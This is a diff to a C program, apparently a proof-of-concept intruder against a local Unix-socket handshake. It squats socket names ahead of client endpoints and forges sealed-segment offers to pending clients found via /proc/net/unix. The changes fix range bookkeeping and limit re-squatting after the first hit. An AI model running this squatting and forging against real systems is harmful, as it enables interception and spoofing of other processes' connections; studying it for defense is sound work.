@@ -9,7 +9,8 @@
  *    server offering to that client connects to the intruder instead; every 5 ms
  *    it looks where the numbers are, and squats further ahead once half of its
  *    names are passed (other processes take numbers too: on a loaded machine the
- *    first names were all passed before the first client connected, hits=0);
+ *    first names were all passed before the first client connected, hits=0),
+ *    without attack only until the first hit;
  *  - forge: it watches /proc/net/unix for live endpoints of pending clients and
  *    sends each a forged offer (a well-formed sealed segment with bytes already in
  *    it, and a socket of its own as "proof").
@@ -214,11 +215,19 @@ static int squat_next(int c) {
   for (uint64_t i = 0; old->fd && i < old->hi - old->lo; i++)
     if (old->fd[i] >= 0) close(old->fd[i]);
   free(old->fd);
+  /* Past the newest range's names: they stay bound with it, and bound twice they
+   * would go with the older range, which goes first. */
+  uint64_t newest_hi = ranges[c][0].fd ? ranges[c][0].hi : 0;
   memmove(&ranges[c][1], &ranges[c][0], (GENS - 1) * sizeof ranges[c][0]);
   struct range *r = &ranges[c][0];
   r->fd = calloc((size_t)per_cpu, sizeof *r->fd);
+  if (!r->fd) {
+    r->lo = r->hi = 0;
+    return 0;
+  }
   for (int i = 0; i < per_cpu; i++) r->fd[i] = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
   r->lo = current_ino() + 1;
+  if (r->lo < newest_hi) r->lo = newest_hi;
   r->hi = r->lo + (uint64_t)per_cpu;
   int bound = 0;
   for (int i = 0; i < per_cpu; i++) {
@@ -294,7 +303,10 @@ int main(int argc, char **argv) {
   size_t nseen = 0;
   uint64_t next_look = rel_now_ns();
   while (rel_now_ns() < end && !stop) {
-    if (rel_now_ns() >= next_look) {
+    /* Without attack, once a name was hit the rest of the clients' endpoints are
+     * left live, for the forging below to find (names past are not squatted anew:
+     * with 16 names, every endpoint but one was squatted, and no offer forged). */
+    if ((attack || hits == 0) && rel_now_ns() >= next_look) {
       resquat();
       next_look = rel_now_ns() + 5 * REL_NS_PER_S / 1000;
     }
